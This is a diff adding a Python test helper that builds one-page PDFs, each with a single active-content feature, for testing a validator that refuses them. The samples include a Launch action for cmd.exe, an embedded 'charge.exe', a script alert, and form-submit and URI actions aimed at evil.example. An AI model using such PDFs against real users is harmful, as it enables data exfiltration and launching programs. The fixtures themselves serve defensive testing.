@@ -109,6 +109,108 @@ def javascript_pdf(where: str = "open_action") -> bytes:
     return buffer.getvalue()
 
 
+ACTIVE_PDF_KINDS = ("xfa", "goto_remote", "uri", "submit_form", "import_data", "rich_media", "embedded_file",
+                    "file_attachment", "launch", "named", "sound", "hide", "reset_form", "set_ocg_state",
+                    "rendition", "goto_embedded", "thread", "movie_annotation", "screen_annotation")
+PASSIVE_PDF_KINDS = ("open_destination", "goto_link", "plain_form")
+
+
+def pdf_with(kind: str) -> bytes:
+    """A one-page PDF with one feature of the active-content policy (validation.py): one of
+    ACTIVE_PDF_KINDS (refused) or PASSIVE_PDF_KINDS (what scans and printed documents have)."""
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.generic import (
+        ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject, NullObject, NumberObject,
+        TextStringObject,
+    )
+
+    def name(value):
+        return NameObject(value)
+
+    def text(value):
+        return TextStringObject(value)
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
+    root, page = writer._root_object, writer.pages[0]
+    rect = ArrayObject([FloatObject(72), FloatObject(700), FloatObject(200), FloatObject(720)])
+
+    def annotation(subtype, **entries):
+        annot = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name(subtype),
+                                  name("/Rect"): rect, **{name(f"/{k}"): v for k, v in entries.items()}})
+        page[name("/Annots")] = ArrayObject([writer._add_object(annot)])
+
+    def action(kind_name, **entries):
+        return DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind_name),
+                                 **{name(f"/{k}"): v for k, v in entries.items()}})
+
+    def link(act):
+        annotation("/Link", A=writer._add_object(act))
+
+    destination = ArrayObject([page.indirect_reference, name("/Fit")])
+    if kind == "xfa":
+        packet = DecodedStreamObject()
+        packet.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script>'
+                        b"</template></xdp:xdp>")
+        root[name("/AcroForm")] = DictionaryObject({name("/Fields"): ArrayObject(),
+                                                    name("/XFA"): writer._add_object(packet)})
+    elif kind == "goto_remote":  # a file on a network share, opened with the document
+        root[name("/OpenAction")] = writer._add_object(action(
+            "/GoToR", F=text("\\\\serveur.example\\partage\\piege.pdf"), D=ArrayObject([NumberObject(0), name("/Fit")])))
+    elif kind == "uri":
+        link(action("/URI", URI=text("https://evil.example/collecte")))
+    elif kind == "submit_form":
+        annotation("/Widget", FT=name("/Btn"), T=text("envoyer"),
+                   A=writer._add_object(action("/SubmitForm", F=text("https://evil.example/formulaire"))))
+    elif kind == "import_data":
+        link(action("/ImportData", F=text("donnees.fdf")))
+    elif kind == "reset_form":
+        link(action("/ResetForm"))
+    elif kind == "rich_media":
+        annotation("/RichMedia", RichMediaContent=DictionaryObject({name("/Assets"): DictionaryObject()}))
+    elif kind == "embedded_file":
+        spec = DictionaryObject({name("/Type"): name("/Filespec"), name("/F"): text("charge.exe")})
+        root[name("/Names")] = DictionaryObject({name("/EmbeddedFiles"): DictionaryObject(
+            {name("/Names"): ArrayObject([text("charge.exe"), writer._add_object(spec)])})})
+    elif kind == "file_attachment":
+        annotation("/FileAttachment", FS=DictionaryObject({name("/Type"): name("/Filespec"), name("/F"): text("a.exe")}))
+    elif kind == "launch":
+        link(action("/Launch", F=text("cmd.exe")))
+    elif kind == "named":
+        link(action("/Named", N=name("/Print")))
+    elif kind == "sound":
+        link(action("/Sound", Sound=NullObject()))
+    elif kind == "hide":
+        link(action("/Hide", T=text("champ")))
+    elif kind == "set_ocg_state":
+        link(action("/SetOCGState", State=ArrayObject([name("/OFF")])))
+    elif kind == "rendition":
+        link(action("/Rendition", OP=NumberObject(0)))
+    elif kind == "goto_embedded":
+        link(action("/GoToE", D=destination, T=DictionaryObject({name("/R"): name("/C"), name("/N"): text("x")})))
+    elif kind == "thread":
+        link(action("/Thread", D=NumberObject(0)))
+    elif kind == "movie_annotation":
+        annotation("/Movie", T=text("film"))
+    elif kind == "screen_annotation":
+        annotation("/Screen", T=text("ecran"))
+    elif kind == "open_destination":  # what word processors write: open on page 1, whole page
+        root[name("/OpenAction")] = destination
+    elif kind == "goto_link":
+        link(action("/GoTo", D=destination))
+    elif kind == "plain_form":
+        field = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/Widget"),
+                                  name("/FT"): name("/Tx"), name("/T"): text("nom"), name("/V"): text("Dupont"),
+                                  name("/Rect"): rect})
+        reference = writer._add_object(field)
+        page[name("/Annots")] = ArrayObject([reference])
+        root[name("/AcroForm")] = DictionaryObject({name("/Fields"): ArrayObject([reference])})
+    else:
+        raise ValueError(kind)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
 def truncated(data: bytes, keep: float = 0.6) -> bytes:
     return data[: int(len(data) * keep)]
 
